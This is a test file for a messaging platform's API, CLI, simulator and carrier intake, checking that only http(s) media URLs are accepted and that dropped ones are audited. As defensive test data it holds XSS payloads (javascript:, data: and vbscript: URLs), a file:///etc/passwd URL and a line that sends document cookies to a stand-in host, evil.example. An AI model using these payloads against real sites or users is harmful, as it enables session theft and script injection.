import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { startServer, type RunningServer } from "../helpers/server";
import {
  call,
  createTestAccount,
  randomNumber,
  releaseFactories,
  type ApiResponse,
  type TestAccount,
} from "../helpers/factories";
import { portalCookie } from "../helpers/portal-session";
import { parley } from "../helpers/cli";
import { createUser } from "../../lib/accounts/manage-accounts";
import { DeliveryWorker } from "../../lib/delivery/delivery-worker";
import type { Carrier, CarrierEvents, InboundMessage } from "../../lib/carriers/carrier";

// Media URLs are http(s) only, from every entry point: an API send, a conversation reply, the operator's CLI and
// the phone simulator refuse anything else with a clear error and store nothing; a carrier's inbound MMS keeps its
// good URLs, loses the bad ones, and the account's audit trail says so by scheme only.

let server: RunningServer;
let account: TestAccount;
let admin: string;
const password = "correct horse battery";

beforeAll(async () => {
  server = await startServer();
  account = await createTestAccount(server, { name: "Media" });
  await createUser({
    accountId: account.accountId,
    email: `admin-${account.accountId}@example.com`,
    password,
    role: "admin",
  });
  admin = await portalCookie(server, `admin-${account.accountId}@example.com`, password);
});

afterAll(async () => {
  await releaseFactories();
  await server?.stop();
});

const GOOD = "https://cdn.example.com/photo.jpg";

// [what it is, the URL, the scheme or reason the error names]
const BAD: [string, string, string][] = [
  ["javascript:", "javascript:alert(document.cookie)", "the scheme javascript: is not allowed"],
  ["JAVASCRIPT: in upper case", "JAVASCRIPT:alert(1)", "the scheme javascript: is not allowed"],
  ["javascript: after a space", " javascript:alert(1)", "the scheme javascript: is not allowed"],
  ["javascript: with a newline inside", "java\nscript:alert(1)", "the scheme javascript: is not allowed"],
  ["javascript: after a control character", "\u0001javascript:alert(1)", "the scheme javascript: is not allowed"],
  ["data:", "data:text/html,<script>alert(1)</script>", "the scheme data: is not allowed"],
  ["vbscript:", "vbscript:msgbox(1)", "the scheme vbscript: is not allowed"],
  ["file:", "file:///etc/passwd", "the scheme file: is not allowed"],
  ["blob:", "blob:https://example.com/0b8e1a5c", "the scheme blob: is not allowed"],
  ["about:", "about:blank", "the scheme about: is not allowed"],
  ["ftp:", "ftp://example.com/cat.jpg", "the scheme ftp: is not allowed"],
  ["a relative path", "images/cat.jpg", "must be an absolute URL beginning with http:// or https://"],
  ["a protocol-relative URL", "//evil.example/cat.jpg", "must be an absolute URL beginning with http:// or https://"],
  ["a URL with user and password", "http://user:pw@example.com/cat.jpg", "must not contain a user name or password"],
];

async function messagesOf(accountId: string, headers: Record<string, string>, query = ""): Promise<ApiResponse> {
  const res = await call(server, "GET", `/v3/messages?accountId=${accountId}&count=100${query}`, { headers });
  expect(res.status, res.text).toBe(200);
  return res;
}

describe("POST /v3/messages", () => {
  it.each(BAD)("refuses a media URL that is %s, naming the entry, and sends nothing", async (_label, url, reason) => {
    const res = await call(server, "POST", "/v3/messages", {
      headers: account.headers,
      body: {
        accountId: account.accountId,
        from: account.numbers[0],
        to: "+14155550123",
        body: "Your label",
        media: [GOOD, url],
      },
    });
    expect({ status: res.status, body: res.json }).toMatchObject({
      status: 400,
      body: {
        status: "InvalidRequest",
        statusCode: 400,
        statusMessage: "Invalid Request",
        data: { apiVersion: "v3", error: "InvalidRequest", field: "media" },
      },
    });
    expect(res.json.data.error_message).toMatch(/^'media\[1\]' /);
    expect(res.json.data.error_message).toContain(reason);
    expect(res.json.data.error_message).not.toContain("alert");
    expect(res.text).not.toMatch(/at .*\.ts:\d+/);
    const listed = await messagesOf(account.accountId, account.headers);
    expect(listed.json.data.results).toEqual([]);
  });

  it("still sends an MMS whose URLs are all http(s)", async () => {
    const other = await createTestAccount(server, { name: "Media sender" });
    const res = await call(server, "POST", "/v3/messages", {
      headers: other.headers,
      body: {
        accountId: other.accountId,
        from: other.numbers[0],
        to: "+14155550123",
        media: [GOOD, "http://example.com/b.png"],
      },
    });
    expect(res.status, res.text).toBe(200);
    expect(res.json.data.messageInfo[0].status).toBe("accepted");
  });
});

describe("the OpenAPI document", () => {
  it("says that media entries are http(s) URLs only and what is refused", async () => {
    const res = await call(server, "GET", "/v3/openapi.json");
    expect(res.status).toBe(200);
    const media = res.json.components.schemas.SendRequest.properties.media;
    expect(media.items).toMatchObject({
      type: "string",
      format: "uri",
      maxLength: 2048,
      pattern: "^[Hh][Tt][Tt][Pp][Ss]?://",
    });
    expect(media.items.description).toContain("javascript:, data:");
    expect(media.description).toContain("'media[1]'");
  });
});

describe("a conversation reply from the portal", () => {
  it("refuses a javascript: media URL with the field and index, and sends nothing", async () => {
    const phone = randomNumber();
    const text = await call(server, "POST", `/api/admin/accounts/${account.accountId}/simulator/inbound`, {
      headers: { cookie: admin, "content-type": "application/json" },
      body: { phone: `+${phone}`, accountNumber: `+${account.numbers[1]}`, text: "Hello" },
    });
    expect(text.status, text.text).toBe(200);
    const { conversationId } = text.json.data;
    const reply = await call(
      server,
      "POST",
      `/api/admin/accounts/${account.accountId}/conversations/${conversationId}/messages`,
      {
        headers: { cookie: admin, "content-type": "application/json" },
        body: { body: "See this", media: [GOOD, "JavaScript:alert(1)"], clientId: "c0123456789abcdef" },
      },
    );
    expect(reply.status, reply.text).toBe(400);
    expect(reply.json).toMatchObject({ status: "InvalidRequest", data: { field: "media.1" } });
    expect(reply.json.data.error_message).toBe(
      "media.1: must be an http:// or https:// URL (the scheme javascript: is not allowed)",
    );
    const outbound = await messagesOf(account.accountId, account.headers, "&direction=outbound");
    expect(outbound.json.data.results).toEqual([]);
  });
});

describe("the phone simulator", () => {
  it("takes only media uploaded to Parley: a javascript: or an outside URL is refused and nothing is stored", async () => {
    const phone = randomNumber();
    const attempts: [string, string][] = [
      ["javascript:alert(1)", "media.0: must be an http:// or https:// URL (the scheme javascript: is not allowed)"],
      [GOOD, "media[0]: attach a picture uploaded to Parley (POST /v3/media)"],
    ];
    for (const [url, message] of attempts) {
      const res = await call(server, "POST", `/api/admin/accounts/${account.accountId}/simulator/inbound`, {
        headers: { cookie: admin, "content-type": "application/json" },
        body: { phone: `+${phone}`, accountNumber: `+${account.numbers[0]}`, text: "hi", media: [url] },
      });
      expect(res.status).toBe(400);
      expect(res.json).toMatchObject({ status: "InvalidRequest", data: { error: "InvalidRequest" } });
      expect(res.json.data.error_message).toContain(message);
    }
    const inbound = await messagesOf(account.accountId, account.headers, `&from=${phone}`);
    expect(inbound.json.data.results).toEqual([]);
  });
});

describe("the CLI's inbound", () => {
  it.each([
    ["javascript:alert(1)", "--media #1: must be an http:// or https:// URL (the scheme javascript: is not allowed)"],
    ["data:text/html,x", "--media #2: must be an http:// or https:// URL (the scheme data: is not allowed)"],
    ["//evil.example/x.png", "--media #2: must be an absolute URL beginning with http:// or https://"],
  ])("refuses %s with a usage error and stores nothing", async (url, message) => {
    const phone = randomNumber();
    const media = message.startsWith("--media #1") ? ["--media", url] : ["--media", GOOD, "--media", url];
    const run = parley(
      ["inbound", "--from", `+${phone}`, "--to", `+${account.numbers[0]}`, "--body", "pic", ...media],
      server.database.url,
    );
    await expect(run).rejects.toMatchObject({ code: 2, stderr: expect.stringContaining(`parley: ${message}\n`) });
    const inbound = await messagesOf(account.accountId, account.headers, `&from=${phone}`);
    expect(inbound.json.data.results).toEqual([]);
  });
});

/**
 * A carrier hands inbound messages to the delivery worker through CarrierEvents.onInbound: the same call, from a
 * carrier that only delivers this one message, with a real worker on the server's database.
 */
async function receiveFromCarrier(message: InboundMessage): Promise<void> {
  let events: CarrierEvents | null = null;
  const carrier: Carrier = {
    name: "mms-test",
    async start(handlers) {
      events = handlers;
    },
    async submit() {
      return { ok: false, temporary: true, code: "0x00000058", detail: "this carrier only receives" };
    },
    async stop() {},
  };
  const worker = new DeliveryWorker({ carrier, pollMs: 60_000, workerId: `media-test-${randomNumber()}` });
  await worker.start();
  try {
    await events!.onInbound(message);
  } finally {
    await worker.stop();
  }
}

describe("an inbound MMS from the carrier", () => {
  it("keeps the text and the http(s) URL, drops the javascript: one, and audits the drop by scheme", async () => {
    const phone = randomNumber();
    await receiveFromCarrier({
      from: phone,
      to: account.numbers[0]!,
      text: "Here is the photo",
      media: [GOOD, "javascript:fetch('//evil.example/?'+document.cookie)"],
      numSegments: 1,
      carrierMessageId: "carrier-1",
      receivedAt: new Date(),
    });

    const inbound = await messagesOf(account.accountId, account.headers, `&from=${phone}`);
    expect(inbound.json.data.results).toHaveLength(1);
    const message = inbound.json.data.results[0];
    expect(message).toMatchObject({ direction: "inbound", body: "Here is the photo", messageType: "mms" });
    // The kept URL is Parley's own copy of the carrier's medium (docs/MEDIA.md).
    expect(message.media).toEqual([expect.stringMatching(/\/media\/md_[A-Za-z0-9]{24}$/)]);

    const audit = await call(server, "GET", `/api/admin/accounts/${account.accountId}/audit?action=media.`, {
      headers: { cookie: admin },
    });
    expect(audit.status, audit.text).toBe(200);
    expect(audit.json.data.events).toHaveLength(1);
    expect(audit.json.data.events[0]).toMatchObject({
      action: "media.dropped",
      actor: "carrier",
      target: `+${phone}`,
      detail: `javascript: (message ${message.messageId})`,
    });
    expect(audit.text).not.toContain("evil.example");
    expect(audit.text).not.toContain("cookie");
  });

  it("keeps a message whose every URL was dropped, as a text", async () => {
    const phone = randomNumber();
    await receiveFromCarrier({
      from: phone,
      to: account.numbers[1]!,
      text: "Two pictures",
      media: ["data:text/html,<b>x</b>", "vbscript:msgbox(1)"],
      numSegments: 1,
      receivedAt: new Date(),
    });
    const inbound = await messagesOf(account.accountId, account.headers, `&from=${phone}`);
    expect(inbound.json.data.results).toMatchObject([{ body: "Two pictures", media: [], messageType: "sms" }]);
    const audit = await call(server, "GET", `/api/admin/accounts/${account.accountId}/audit?action=media.`, {
      headers: { cookie: admin },
    });
    expect(audit.json.data.events.map((e: { target: string; detail: string }) => [e.target, e.detail])).toContainEqual([
      `+${phone}`,
      `data:, vbscript: (message ${inbound.json.data.results[0].messageId})`,
    ]);
  });
});
